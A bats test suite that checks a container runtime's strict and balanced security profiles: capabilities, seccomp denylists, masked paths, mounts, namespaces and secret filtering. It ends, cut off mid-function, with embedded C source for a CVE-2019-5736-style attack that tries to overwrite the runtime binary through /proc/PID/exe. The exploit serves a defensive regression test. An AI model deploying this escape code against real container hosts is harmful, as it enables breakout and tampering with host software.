#!/usr/bin/env bats
# Every row of the profile translation table in docs/profiles.md, measured from a *permissive*
# bundle (permissive_bundle in helpers.bash: `runc spec` with every capability, no masked or
# read-only paths, rw root, rw /sys and cgroupfs, no seccomp, no /dev/shm mount, nnp off).
# Each test checks the effect inside the container under the profile AND checks that the same
# bundle without a profile does not show it, so a profile row that stops being applied fails.
# Also: exec into strict/balanced containers, and the `#!/proc/self/exe` attack on the binary.

load helpers

setup () {
  cellrun_setup
  permissive_bundle "$BUNDLE"
}

# measure PROFILE SCRIPT: run `sh -c SCRIPT` in the bundle once under PROFILE (output in $WITH)
# and once without a profile (output in $WITHOUT). Both runs must succeed.
measure () {
  local profile=$1
  cfg_args sh -c "$2"
  WITH=$(prun "$profile" "$ID" 2>&1) || { echo "run under $profile failed: $WITH"; return 1; }
  WITHOUT=$(prun none "$ID2" 2>&1) || { echo "run without a profile failed: $WITHOUT"; return 1; }
  printf -- '--- %s:\n%s\n--- none:\n%s\n' "$profile" "$WITH" "$WITHOUT"
}

# field KEY TEXT: the value of a `Key:` line of /proc/self/status output.
field () { awk -v k="$1:" '$1 == k { print $2 }' <<< "$2"; }

cap_mask () {  # cap_mask NUMBER...: hex mask as /proc/self/status prints it
  local m=0 b
  for b in "$@"; do m=$((m | (1 << b))); done
  printf '%016x\n' "$m"
}

host_bnd () { awk '$1 == "CapBnd:" { print $2 }' /proc/self/status; }

# mount_opts TEXT MOUNTPOINT: per-mount options (mountinfo field 6) of the last mount at MOUNTPOINT.
mount_opts () { awk -v d="$2" '$5 == d { o = $6 } END { print o }' <<< "$1"; }
has_opt () { case ",$1," in *",$2,"*) return 0 ;; esac; return 1; }

BALANCED_CAPS="0 1 3 4 5 6 7 8 10 13 18 27 29 31" # CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID SETUID
# SETPCAP NET_BIND_SERVICE NET_RAW SYS_CHROOT MKNOD AUDIT_WRITE SETFCAP

# ------------------------------------------------------------------ capabilities

@test "permissive: the bundle really grants every capability the caller holds in all five sets" {
  cfg_args cat /proc/self/status
  run prun none "$ID"
  [ "$status" -eq 0 ]
  for k in CapInh CapPrm CapEff CapBnd CapAmb; do
    [ "$(field $k "$output")" = "$(host_bnd)" ] || fail "$k=$(field $k "$output"), caller's CapBnd $(host_bnd)"
  done
  [ "$(field NoNewPrivs "$output")" = 0 ] || fail "NoNewPrivs set without a profile"
  [ "$(field Seccomp "$output")" = 0 ] || fail "a seccomp filter without a profile"
}

@test "strict row capabilities: all five sets empty (none without a profile)" {
  measure strict 'cat /proc/self/status'
  for k in CapInh CapPrm CapEff CapBnd CapAmb; do
    [ "$(field $k "$WITH")" = 0000000000000000 ] || fail "strict $k=$(field $k "$WITH")"
    [ "$(field $k "$WITHOUT")" = "$(host_bnd)" ] || fail "no profile $k=$(field $k "$WITHOUT")"
  done
}

@test "balanced row capabilities: every set is the intersection with the balanced list" {
  local want
  want=$(printf '%016x' $((16#$(cap_mask $BALANCED_CAPS) & 16#$(host_bnd))))
  measure balanced 'cat /proc/self/status'
  for k in CapInh CapPrm CapEff CapBnd CapAmb; do
    [ "$(field $k "$WITH")" = "$want" ] || fail "balanced $k=$(field $k "$WITH"), want $want"
    [ "$(field $k "$WITHOUT")" = "$(host_bnd)" ] || fail "no profile $k=$(field $k "$WITHOUT")"
  done
}

@test "balanced row capabilities: a capability the bundle does not give is never added" {
  cfg_set .process.capabilities '{"bounding":["CAP_KILL","CAP_SYS_ADMIN"],"effective":["CAP_KILL"],"permitted":["CAP_KILL"]}'
  measure balanced 'cat /proc/self/status'
  [ "$(field CapEff "$WITH")" = "$(cap_mask 5)" ] || fail "CapEff $(field CapEff "$WITH")"
  [ "$(field CapBnd "$WITH")" = "$(cap_mask 5)" ] || fail "CapBnd $(field CapBnd "$WITH")"
  [ "$(field CapInh "$WITH")" = 0000000000000000 ] || fail "CapInh $(field CapInh "$WITH")"
  [ "$(field CapAmb "$WITH")" = 0000000000000000 ] || fail "CapAmb $(field CapAmb "$WITH")"
  [ "$(field CapBnd "$WITHOUT")" = "$(cap_mask 5 21)" ] || fail "no profile CapBnd $(field CapBnd "$WITHOUT")"
}

# ------------------------------------------------------------------ noNewPrivileges, seccomp

@test "strict and balanced rows noNewPrivileges: true (false without a profile)" {
  local p
  for p in strict balanced; do
    measure $p 'cat /proc/self/status'
    [ "$(field NoNewPrivs "$WITH")" = 1 ] || fail "$p NoNewPrivs=$(field NoNewPrivs "$WITH")"
    [ "$(field NoNewPrivs "$WITHOUT")" = 0 ] || fail "no profile NoNewPrivs=$(field NoNewPrivs "$WITHOUT")"
  done
}

@test "strict and balanced rows seccomp: one profile filter (mode 2) where the bundle has none" {
  local p
  for p in strict balanced; do
    measure $p 'cat /proc/self/status'
    [ "$(field Seccomp "$WITH")" = 2 ] || fail "$p Seccomp=$(field Seccomp "$WITH")"
    [ "$(field Seccomp_filters "$WITH")" = 1 ] || fail "$p Seccomp_filters=$(field Seccomp_filters "$WITH")"
    [ "$(field Seccomp "$WITHOUT")" = 0 ] || fail "no profile Seccomp=$(field Seccomp "$WITHOUT")"
  done
}

@test "strict and balanced rows seccomp: stacked on the bundle's filter (Seccomp_filters 2, the bundle's rule still applies)" {
  have_sysprobe || skip "tests/probes/sysprobe not built"
  cfg_set .linux.seccomp '{"defaultAction":"SCMP_ACT_ALLOW","syscalls":[{"names":["getpid"],"action":"SCMP_ACT_ERRNO","errnoRet":13}]}'
  local p
  for p in strict balanced; do
    measure $p 'grep Seccomp /proc/self/status; sysprobe getpid mount'
    [ "$(field Seccomp_filters "$WITH")" = 2 ] || fail "$p Seccomp_filters=$(field Seccomp_filters "$WITH")"
    grep -qx "getpid EACCES" <<< "$WITH" || fail "$p: the bundle's own rule is gone"
    grep -qx "mount EPERM" <<< "$WITH" || fail "$p: the profile's rule is missing"
    [ "$(field Seccomp_filters "$WITHOUT")" = 1 ] || fail "no profile Seccomp_filters=$(field Seccomp_filters "$WITHOUT")"
    grep -qx "mount EPERM" <<< "$WITHOUT" && fail "mount is EPERM without a profile: the probe proves nothing"
  done
  true
}

BOTH_DENIED="mount umount2 pivot_root move_mount open_tree fsopen fsmount fsconfig mount_setattr setns unshare-net clone-ns kexec_load kexec_file_load init_module finit_module delete_module bpf perf_event_open userfaultfd keyctl add_key request_key open_by_handle_at name_to_handle_at swapon swapoff reboot sethostname setdomainname acct settimeofday clock_settime clock_adjtime adjtimex iopl ioperm quotactl lookup_dcookie syslog tiocsti"
STRICT_ONLY="ptrace process_vm_readv io_uring_setup io_uring_enter io_uring_register personality-linux32 unshare-user"

# check_denylist PROFILE: every probe of the profile's list is EPERM under it; without a profile
# (every capability, no filter) none of them is.
check_denylist () {
  local profile=$1 p
  measure "$profile" "sysprobe $BOTH_DENIED $STRICT_ONLY clone3 getpid"
  for p in $BOTH_DENIED; do
    grep -qx "$p EPERM" <<< "$WITH" || fail "$profile: $p not EPERM"
    grep -qx "$p EPERM" <<< "$WITHOUT" && fail "$p is EPERM without a profile too: the probe proves nothing"
  done
  for p in $STRICT_ONLY; do
    grep -qx "$p EPERM" <<< "$WITHOUT" && fail "$p is EPERM without a profile too: the probe proves nothing"
    if [ "$profile" = strict ]; then
      grep -qx "$p EPERM" <<< "$WITH" || fail "strict: $p not EPERM"
    else
      grep -qx "$p EPERM" <<< "$WITH" && fail "balanced: $p is denied, the table allows it"
    fi
  done
  grep -qx "clone3 ENOSYS" <<< "$WITH" || fail "$profile: clone3 not ENOSYS"
  grep -qx "clone3 ENOSYS" <<< "$WITHOUT" && fail "clone3 ENOSYS without a profile"
  grep -qx "getpid OK" <<< "$WITH" || fail "$profile: getpid broken"
}

@test "strict row seccomp: every denylisted call is EPERM, clone3 ENOSYS (none of it without a profile)" {
  have_sysprobe || skip "tests/probes/sysprobe not built"
  check_denylist strict
}

@test "balanced row seccomp: the shared denylist is EPERM, the strict-only calls are allowed" {
  have_sysprobe || skip "tests/probes/sysprobe not built"
  check_denylist balanced
}

# ------------------------------------------------------------------ root, tmpfs mounts

@test "strict row root: read-only (rw without a profile and under balanced)" {
  private_rootfs
  measure strict 'awk "\$5 == \"/\" { print \$6 }" /proc/self/mountinfo; touch /probe-root 2>&1; echo rc=$?'
  has_opt "$(sed -n 1p <<< "$WITH")" ro || fail "strict: / is not mounted ro"
  grep -q "Read-only file system" <<< "$WITH" || fail "strict: write to / did not fail with EROFS"
  has_opt "$(sed -n 1p <<< "$WITHOUT")" rw || fail "no profile: / is not rw"
  grep -qx rc=0 <<< "$WITHOUT" || fail "no profile: / not writable"
  [ -e "$BUNDLE/rootfs/probe-root" ] || fail "no profile: the write did not land in the rootfs"
  rm -f "$BUNDLE/rootfs/probe-root"
  cfg_args sh -c 'touch /probe-root; echo rc=$?'
  run prun balanced "$ID-b"
  [ "$status" -eq 0 ]
  grep -qx rc=0 <<< "$output" || fail "balanced: / is not as the bundle says (rw)"
  [ -e "$BUNDLE/rootfs/probe-root" ]
}

# bind_host_dirs: the bundle binds host dirs at /tmp, /var/tmp and /dev/shm, each with a marker.
bind_host_dirs () {
  local d
  for d in tmp var-tmp dev-shm; do
    mkdir -p "$T/host-$d"
    echo host > "$T/host-$d/from-host"
  done
  cfg_append .mounts "{\"destination\":\"/tmp\",\"type\":\"bind\",\"source\":\"$T/host-tmp\",\"options\":[\"rbind\",\"rw\"]}"
  cfg_append .mounts "{\"destination\":\"/var/tmp\",\"type\":\"bind\",\"source\":\"$T/host-var-tmp\",\"options\":[\"rbind\",\"rw\"]}"
  cfg_append .mounts "{\"destination\":\"/dev/shm\",\"type\":\"bind\",\"source\":\"$T/host-dev-shm\",\"options\":[\"rbind\",\"rw\"]}"
}

TMPFS_PROBE='for d in /tmp /var/tmp /dev/shm; do awk -v d=$d "\$5 == d { t = \$9; o = \$6 } END { print \"M\", d, t, o }" /proc/self/mountinfo; echo "S $d $(stat -c %a $d)"; [ -e $d/from-host ] && echo "H $d"; echo x > $d/written; done; true'

@test "strict row /tmp, /var/tmp, /dev/shm: private tmpfs nosuid,nodev,1777 replacing the bundle's binds" {
  bind_host_dirs
  measure strict "$TMPFS_PROBE"
  local d line
  for d in /tmp /var/tmp /dev/shm; do
    line=$(grep "^M $d " <<< "$WITH")
    [ "$(cut -d' ' -f3 <<< "$line")" = tmpfs ] || fail "strict: $d is not a tmpfs: $line"
    has_opt "$(cut -d' ' -f4 <<< "$line")" nosuid || fail "strict: $d not nosuid"
    has_opt "$(cut -d' ' -f4 <<< "$line")" nodev || fail "strict: $d not nodev"
    grep -qx "S $d 1777" <<< "$WITH" || fail "strict: $d mode is not 1777"
    grep -qx "H $d" <<< "$WITH" && fail "strict: the host dir behind $d is visible"
    grep -qx "H $d" <<< "$WITHOUT" || fail "no profile: the bundle's bind at $d is not there"
  done
  # Both runs wrote x into each; only the unprofiled one reached the host directories.
  for d in tmp var-tmp dev-shm; do
    [ -e "$T/host-$d/written" ] || fail "no profile: write to $d did not reach the host dir"
  done
  cfg_args sh -c 'echo y > /tmp/strict-only; echo y > /var/tmp/strict-only; echo y > /dev/shm/strict-only'
  run prun strict "$ID-c"
  [ "$status" -eq 0 ]
  for d in tmp var-tmp dev-shm; do
    [ ! -e "$T/host-$d/strict-only" ] || fail "strict: write to $d reached the host dir"
  done
}

@test "balanced row /tmp, /var/tmp, /dev/shm: as the bundle says (the bundle's binds stay)" {
  bind_host_dirs
  measure balanced "$TMPFS_PROBE"
  for d in /tmp /var/tmp /dev/shm; do
    grep -qx "H $d" <<< "$WITH" || fail "balanced: the bundle's bind at $d was replaced"
  done
}

@test "strict: /tmp of a bundle without a /tmp mount is private (a write does not land in the rootfs)" {
  private_rootfs
  measure strict 'echo x > /tmp/probe-tmp; awk "\$5 == \"/tmp\" { print \$9 }" /proc/self/mountinfo'
  grep -qx tmpfs <<< "$WITH" || fail "strict: /tmp is not a tmpfs"
  grep -qx tmpfs <<< "$WITHOUT" && fail "no profile: /tmp is a tmpfs already"
  [ -e "$BUNDLE/rootfs/tmp/probe-tmp" ] || fail "no profile: /tmp is not the rootfs' /tmp"
  rm -f "$BUNDLE/rootfs/tmp/probe-tmp"
  cfg_args sh -c 'echo x > /tmp/probe-tmp'
  run prun strict "$ID-c"
  [ "$status" -eq 0 ]
  [ ! -e "$BUNDLE/rootfs/tmp/probe-tmp" ] || fail "strict: /tmp write landed in the rootfs"
}

# ------------------------------------------------------------------ /sys and cgroupfs

SYS_PROBE='awk "\$9 == \"sysfs\" || \$9 == \"cgroup\" || \$9 == \"cgroup2\" || \$5 == \"/sys/fs/cgroup\" { print \"M\", \$5, \$6 }" /proc/self/mountinfo; if [ -e /sys/kernel/profiling ]; then if ( true >> /sys/kernel/profiling ) 2>&1; then echo SYSOPEN-OK; else echo SYSOPEN-FAIL; fi; fi'

@test "strict row /sys, cgroupfs: sysfs and every cgroup mount read-only (rw without a profile)" {
  measure strict "$SYS_PROBE"' ; for c in /sys/fs/cgroup/*/; do mkdir $c/probe-ro 2>&1; done; true'
  local n=0 mp opts
  while read -r _ mp opts; do
    n=$((n + 1))
    has_opt "$opts" ro || fail "strict: $mp is $opts"
  done < <(grep '^M ' <<< "$WITH")
  [ "$n" -ge 2 ] || fail "strict: expected sysfs and cgroup mounts, saw $n"
  grep -q '^M /sys ' <<< "$WITH" || fail "strict: no /sys mount"
  grep -q "Read-only file system" <<< "$WITH" || fail "strict: mkdir in a cgroup mount did not fail with EROFS"
  grep -q 'probe-ro.*File exists' <<< "$WITH" && fail "strict: a cgroup dir was created"
  # the unprofiled run (no writes there: it would change the container's real cgroup)
  while read -r _ mp opts; do
    has_opt "$opts" rw || fail "no profile: $mp is $opts: the bundle does not test the row"
  done < <(grep '^M ' <<< "$WITHOUT")
  if [ -e /sys/kernel/profiling ]; then
    grep -qx SYSOPEN-FAIL <<< "$WITH" || fail "strict: sysfs opened for writing"
    grep -qx SYSOPEN-OK <<< "$WITHOUT" || fail "no profile: sysfs not writable"
  fi
}

@test "balanced row /sys, cgroupfs: as the bundle says (rw stays rw)" {
  measure balanced "$SYS_PROBE"
  has_opt "$(awk '$1 == "M" && $2 == "/sys" { print $3 }' <<< "$WITH")" rw || fail "balanced made /sys ro"
}

# ------------------------------------------------------------------ masked and read-only paths

MASKED="/proc/acpi /proc/asound /proc/interrupts /proc/kcore /proc/keys /proc/latency_stats /proc/timer_list /proc/timer_stats /proc/sched_debug /proc/scsi /sys/firmware /sys/devices/virtual/powercap"
MASK_PROBE='for p in '"$MASKED"'; do if [ -d $p ]; then echo "$p $(ls -A $p 2>/dev/null | wc -l)"; elif [ -e $p ]; then echo "$p $(head -c 64 $p 2>/dev/null | wc -c)"; else echo "$p absent"; fi; done'

check_masked () {
  local profile=$1 p w wo shown=0
  measure "$profile" "$MASK_PROBE"
  for p in $MASKED; do
    w=$(awk -v p="$p" '$1 == p { print $2 }' <<< "$WITH")
    wo=$(awk -v p="$p" '$1 == p { print $2 }' <<< "$WITHOUT")
    case "$w" in 0|absent) ;; *) fail "$profile: $p shows $w bytes/entries" ;; esac
    case "$wo" in ''|0|absent) ;; *) shown=$((shown + 1)) ;; esac
  done
  # the unprofiled container must actually see content behind the paths that have some here
  local host
  host=$(sh -c "$MASK_PROBE")
  for p in /proc/interrupts /proc/kcore /proc/timer_list /sys/firmware; do
    wo=$(awk -v p="$p" '$1 == p { print $2 }' <<< "$WITHOUT")
    case "$(awk -v p="$p" '$1 == p { print $2 }' <<< "$host")" in ''|0|absent) continue ;; esac
    case "$wo" in ''|0|absent) fail "no profile: $p shows nothing ($wo): the test cannot fail" ;; esac
  done
  [ "$shown" -ge 3 ] || fail "no profile: only $shown masked paths have content"
  if [ -e /proc/keys ]; then
    [ "$(awk '$1 == "/proc/keys" { print $2 }' <<< "$WITH")" = 0 ] || fail "$profile: /proc/keys readable"
  fi
}

@test "strict row maskedPaths: every listed path reads empty (content without a profile)" {
  check_masked strict
}

@test "balanced row maskedPaths: every listed path reads empty (content without a profile)" {
  check_masked balanced
}

RO_PATHS="/proc/bus /proc/fs /proc/irq /proc/sys /proc/sysrq-trigger"
RO_PROBE='cat /proc/self/mountinfo; echo probe-host > /proc/sys/kernel/hostname 2>&1 && echo SYSCTL-WRITTEN; echo "H $(hostname)"'

check_readonly () {
  local profile=$1 p
  measure "$profile" "$RO_PROBE"
  for p in $RO_PATHS; do
    [ -e "$p" ] || continue
    has_opt "$(mount_opts "$WITH" "$p")" ro || fail "$profile: $p not mounted ro ($(mount_opts "$WITH" "$p"))"
    has_opt "$(mount_opts "$WITHOUT" "$p")" ro && fail "no profile: $p is ro already"
  done
  grep -q "Read-only file system" <<< "$WITH" || fail "$profile: /proc/sys write did not fail with EROFS"
  grep -qx SYSCTL-WRITTEN <<< "$WITH" && fail "$profile: /proc/sys written"
  grep -qx SYSCTL-WRITTEN <<< "$WITHOUT" || fail "no profile: /proc/sys not writable: the test cannot fail"
  grep -qx "H probe-host" <<< "$WITHOUT" || fail "no profile: hostname not changed"
}

@test "strict row readonlyPaths: /proc/sys and friends read-only (writable without a profile)" {
  check_readonly strict
}

@test "balanced row readonlyPaths: /proc/sys and friends read-only (writable without a profile)" {
  check_readonly balanced
}

# ------------------------------------------------------------------ rlimits, pids

@test "strict row rlimits: RLIMIT_CORE 0/0 replaces the bundle's; balanced and no profile keep it" {
  cfg_set .process.rlimits '[{"type":"RLIMIT_CORE","soft":1048576,"hard":1048576},{"type":"RLIMIT_NOFILE","soft":512,"hard":512}]'
  measure strict 'echo "core $(ulimit -c) $(ulimit -H -c)"; echo "nofile $(ulimit -n)"'
  grep -qx "core 0 0" <<< "$WITH" || fail "strict: core not 0 0"
  grep -qx "nofile 512" <<< "$WITH" || fail "strict: the bundle's other rlimits were lost"
  grep -qx "core 2048 2048" <<< "$WITHOUT" || fail "no profile: core not the bundle's 1 MiB"
  measure balanced 'echo "core $(ulimit -c) $(ulimit -H -c)"'
  grep -qx "core 2048 2048" <<< "$WITH" || fail "balanced: core not as the bundle says"
}

PIDS_PROBE='cat /sys/fs/cgroup/pids/pids.max 2>/dev/null || cat /sys/fs/cgroup/unified/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids.max'

@test "strict row pids: pids.max 1024 when the bundle sets none or <= 0, a positive limit kept" {
  [ -e /sys/fs/cgroup/pids ] || [ -e /sys/fs/cgroup/unified/cgroup.controllers ] || skip "no pids controller"
  measure strict "$PIDS_PROBE"
  [ "$WITH" = 1024 ] || fail "strict: pids.max $WITH"
  [ "$WITHOUT" = max ] || fail "no profile: pids.max $WITHOUT"
  cfg_set .linux.resources.pids '{"limit":-1}'
  measure strict "$PIDS_PROBE"
  [ "$WITH" = 1024 ] || fail "strict with limit -1: pids.max $WITH"
  cfg_set .linux.resources.pids '{"limit":77}'
  measure strict "$PIDS_PROBE"
  [ "$WITH" = 77 ] || fail "strict with limit 77: pids.max $WITH"
  cfg_del .linux.resources.pids
  measure balanced "$PIDS_PROBE"
  [ "$WITH" = max ] || fail "balanced: pids.max $WITH"
}

# ------------------------------------------------------------------ namespaces, network

NS_PROBE='for n in pid ipc uts mnt cgroup net; do echo "$n $(readlink /proc/self/ns/$n)"; done; echo "IF $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | tr "\n" " ")"'
ns_of () { awk -v n="$1" '$1 == n { print $2 }' <<< "$2"; }

@test "strict row namespaces and network: pid, ipc, uts, cgroup, net added; only loopback (host's without a profile)" {
  for n in pid ipc uts cgroup network; do cfg_ns_del $n; done
  cfg_del .hostname   # a hostname without a UTS namespace is refused (it would rename the host)
  measure strict "$NS_PROBE"
  local n
  for n in pid ipc uts cgroup net; do
    [ "$(ns_of $n "$WITH")" != "$(readlink /proc/self/ns/$n)" ] || fail "strict shares the host's $n namespace"
    [ "$(ns_of $n "$WITHOUT")" = "$(readlink /proc/self/ns/$n)" ] || fail "no profile: $n is not the host's"
  done
  grep -qx "IF lo " <<< "$WITH" || fail "strict: interfaces other than lo: $(grep '^IF' <<< "$WITH")"
  grep -qx "IF lo " <<< "$WITHOUT" && fail "no profile: only lo in the host's netns?"
  true
}

@test "strict row namespaces: a mount namespace is added when the bundle has none" {
  cfg_ns_del mount
  cfg_args sh -c "$NS_PROBE"
  run prun strict "$ID"
  [ "$status" -eq 0 ]
  [ "$(ns_of mnt "$output")" != "$(readlink /proc/self/ns/mnt)" ] || fail "strict shares the host's mount namespace"
  # without a profile the runtime either refuses or shares the host's (never a new one)
  run prun none "$ID2"
  if [ "$status" -eq 0 ]; then
    [ "$(ns_of mnt "$output")" = "$(readlink /proc/self/ns/mnt)" ] || fail "no profile: a mount namespace appeared"
  fi
}

@test "strict row network: a bundle netns given by path (a pod) is kept" {
  command -v ip >/dev/null || skip "no ip command"
  local ns=${ID}-ns want
  ip netns add "$ns"
  cfg_ns_set network "/run/netns/$ns"
  cfg_args readlink /proc/self/ns/net
  run prun strict "$ID"
  want=$(ip netns exec "$ns" readlink /proc/self/ns/net)
  ip netns delete "$ns"
  [ "$status" -eq 0 ]
  [ "$output" = "$want" ] || fail "strict replaced the pod netns: $output vs $want"
}

@test "balanced row namespaces and network: pid, ipc, uts, mnt added; cgroup and network as the bundle says" {
  for n in pid ipc uts cgroup network; do cfg_ns_del $n; done
  cfg_del .hostname   # a hostname without a UTS namespace is refused (it would rename the host)
  measure balanced "$NS_PROBE"
  local n
  for n in pid ipc uts; do
    [ "$(ns_of $n "$WITH")" != "$(readlink /proc/self/ns/$n)" ] || fail "balanced shares the host's $n"
    [ "$(ns_of $n "$WITHOUT")" = "$(readlink /proc/self/ns/$n)" ] || fail "no profile: $n is not the host's"
  done
  [ "$(ns_of net "$WITH")" = "$(readlink /proc/self/ns/net)" ] || fail "balanced added a netns"
  [ "$(ns_of cgroup "$WITH")" = "$(readlink /proc/self/ns/cgroup)" ] || fail "balanced added a cgroupns"
  cfg_ns_del mount
  cfg_args sh -c "$NS_PROBE"
  run prun balanced "$ID-m"
  [ "$status" -eq 0 ]
  [ "$(ns_of mnt "$output")" != "$(readlink /proc/self/ns/mnt)" ] || fail "balanced shares the host's mount namespace"
}

# ------------------------------------------------------------------ env pass-through default

@test "strict and balanced rows env pass-through default: none (the probe sees it when allowed)" {
  export PTESTS_MARKER=visible-marker GITHUB_TOKEN=ptests-secret
  local p
  for p in strict balanced; do
    cfg_args sh -c 'env'
    run prun $p "$ID-$p"
    [ "$status" -eq 0 ]
    grep -q PTESTS_MARKER <<< "$output" && fail "$p: a caller variable passed by default"
    grep -q ptests-secret <<< "$output" && fail "$p: a secret passed by default"
    run timeout 30 "$CELLRUN" --root "$ROOT" --profile $p run --bundle "$BUNDLE" --env-pass allow:PTESTS_MARKER "$ID-$p-a" < /dev/null
    [ "$status" -eq 0 ]
    grep -qx PTESTS_MARKER=visible-marker <<< "$output" || fail "$p: the probe cannot see a passed variable"
  done
}

# ------------------------------------------------------------------ exec into profiled containers

# exec_status PROFILE: create+start a sleeping container under PROFILE (none = no flag) with a
# bundle filter and a 1 MiB core limit, then exec probes into it: plain, and with a --process
# asking for every capability and no nnp. Outputs in $EX (plain) and $EXP (--process).
exec_status () {
  local profile=$1 id=$2 g=()
  [ "$profile" = none ] || g=(--profile "$profile")
  cfg_set .linux.seccomp '{"defaultAction":"SCMP_ACT_ALLOW","syscalls":[{"names":["acct"],"action":"SCMP_ACT_ERRNO"}]}'
  cfg_set .process.rlimits '[{"type":"RLIMIT_CORE","soft":1048576,"hard":1048576}]'
  cfg_args sleep 60
  timeout -k 2 30 "$CELLRUN" --root "$ROOT" "${g[@]}" create --bundle "$BUNDLE" --pid-file "$T/$id.pid" "$id" \
    > "$T/$id.out" 2> "$T/$id.err" < /dev/null || { cat "$T/$id.err"; return 1; }
  cr start "$id"
  local probe='cat /proc/self/status; echo "core $(ulimit -c) $(ulimit -H -c)"'
  EX=$(cr exec "$id" sh -c "$probe" 2>&1) || { echo "exec failed: $EX"; return 1; }
  local caps
  caps=$(all_cap_names)
  "$PY" - "$T/process.json" "$caps" "$probe" <<'PYEOF'
import json, sys
caps = json.loads(sys.argv[2])
json.dump({"cwd": "/", "user": {"uid": 0, "gid": 0}, "args": ["sh", "-c", sys.argv[3]],
           "env": ["PATH=/bin"], "noNewPrivileges": False,
           "capabilities": {k: caps for k in ("bounding", "effective", "permitted", "inheritable", "ambient")},
           "rlimits": [{"type": "RLIMIT_CORE", "soft": 2097152, "hard": 2097152}]}, open(sys.argv[1], "w"))
PYEOF
  EXP=$(cr exec --process "$T/process.json" "$id" 2>&1) || { echo "exec --process failed: $EXP"; return 1; }
  printf -- '--- exec %s:\n%s\n--- exec --process:\n%s\n' "$profile" "$EX" "$EXP"
}

@test "exec into strict: no capabilities, NoNewPrivs, both filters, core 0 - also for a --process asking for more" {
  exec_status strict "$ID"
  local out k
  for out in "$EX" "$EXP"; do
    for k in CapInh CapPrm CapEff CapBnd CapAmb; do
      [ "$(field $k "$out")" = 0000000000000000 ] || fail "strict exec $k=$(field $k "$out")"
    done
    [ "$(field NoNewPrivs "$out")" = 1 ] || fail "strict exec without NoNewPrivs"
    [ "$(field Seccomp_filters "$out")" = 2 ] || fail "strict exec Seccomp_filters=$(field Seccomp_filters "$out")"
    grep -qx "core 0 0" <<< "$out" || fail "strict exec: core limit is not 0 0"
  done
  # the same probes into an unprofiled container show what the profile took away
  exec_status none "$ID2"
  [ "$(field CapEff "$EX")" = "$(host_bnd)" ] || fail "no profile exec CapEff=$(field CapEff "$EX")"
  [ "$(field NoNewPrivs "$EX")" = 0 ] || fail "no profile exec has NoNewPrivs"
  [ "$(field Seccomp_filters "$EX")" = 1 ] || fail "no profile exec Seccomp_filters=$(field Seccomp_filters "$EX")"
  grep -qx "core 2048 2048" <<< "$EX" || fail "no profile exec: core not the bundle's"
  [ "$(field CapEff "$EXP")" = "$(host_bnd)" ] || fail "no profile exec --process CapEff=$(field CapEff "$EXP")"
  grep -qx "core 4096 4096" <<< "$EXP" || fail "no profile exec --process: core not the process.json's"
}

@test "exec into balanced: balanced capabilities, NoNewPrivs, both filters, rlimit ceiling - also for a --process asking for more" {
  local want
  want=$(printf '%016x' $((16#$(cap_mask $BALANCED_CAPS) & 16#$(host_bnd))))
  exec_status balanced "$ID"
  local out k
  for out in "$EX" "$EXP"; do
    for k in CapInh CapPrm CapEff CapBnd CapAmb; do
      [ "$(field $k "$out")" = "$want" ] || fail "balanced exec $k=$(field $k "$out") want $want"
    done
    [ "$(field NoNewPrivs "$out")" = 1 ] || fail "balanced exec without NoNewPrivs"
    [ "$(field Seccomp_filters "$out")" = 2 ] || fail "balanced exec Seccomp_filters=$(field Seccomp_filters "$out")"
  done
  grep -qx "core 2048 2048" <<< "$EX" || fail "balanced exec: core limit not as the bundle says"
  # the container's limits are a ceiling for exec under any profile, like its capabilities
  grep -qx "core 2048 2048" <<< "$EXP" || fail "balanced exec --process raised the container's core limit"
}

# ------------------------------------------------------------------ /proc/<pid>/exe of the runtime

# The CVE-2019-5736 attack. (`#!/proc/self/exe` as the program exec runs is refused by the
# kernel here with ENOENT, for runc as for cellrun, so the runtime cannot be made to re-run
# itself in the container; the live attack below goes for the runtime's own process.) A
# container's init watches /proc for a process whose exe is the runtime while the host runs
# `exec` repeatedly, keeps an O_RDONLY fd on /proc/PID/exe (reading is allowed), and after the
# runtime is gone reopens that fd for writing through /proc/self/fd. The runtime is a copy of
# cellrun in the temp dir (CELLRUN points to it), so on the host its sha256 must be unchanged.
# Seeing it fail: run the exec with CELLRUN_UNSAFE_NO_SEAL=1 (no sealed memfd copy).
attacker_src () {
  cat <<'CEOF'
/* CVE-2019-5736 style attacker, run as a container's init: watch /proc for a process whose
   exe is the runtime (name contains "cellrun"), keep an O_RDONLY fd on /proc/PID/exe, then
   try to reopen it for writing through /proc/self/fd until the runtime has gone away. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now (void) { struct timespec t; clock_gettime (CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

int main (int argc, char **argv)
{
  double end = now () + (argc > 1 ? atoi (argv[1]) : 20);
  int denied = 0, self = getpid ();
  setvbuf (stdout, NULL, _IONBF, 0);
  printf ("READY\n");
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)))
        {
          int pid = atoi (e->d_name);
          if (pid <= 1 || pid == self)
            continue;
          char path[64], link[512];
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          ssize_t n = readlink (path, link, sizeof link - 1);
          if (n < 0)
            {
              /* Without CAP_SYS_PTRACE the runtime's (non-dumpable) process is refused:
                 after a few refusals there is nothing more to try. */
              if ((errno == EACCES || errno == EPERM) && ++denied >= 5)
                end = 0;
              continue;
            }
          link[n] = 0;
          if (!strstr (link, "cellrun"))
            continue;
          int fd = open (path, O_RDONLY);
          if (fd < 0)
            {
              printf ("OPEN-DENIED %s %s\n", link, strerror (errno));
              denied++;
              continue;
            }
          printf ("GRABBED %s\n", link);
          int w = open (path, O_WRONLY);
          printf ("direct write open: %s\n", w >= 0 ? "OPENED" : strerror (errno));
          char again[64];
          snprintf (again, sizeof again, "/proc/self/fd/%d", fd);
          double stop = now () + 10;
          int last = 0;
          while (now () < stop)
            {
              w = open (again, O_WRONLY);
              if (w >= 0)
                {
                  ssize_t k = write (w, "PWNED", 5);
                  printf ("%s\n", k == 5 ? "WROTE" : "OPENED-BUT-WRITE-FAILED");
                  if (k != 5)
                    printf ("write: %s\n", strerror (errno));
                  break;
                }
              last = errno;
              if (last != ETXTBSY)
                break;
              usleep (1000);
            }
          if (w < 0)
            printf ("reopen for writing: %s\n", strerror (last));
          printf ("ATTACK-DONE\n");
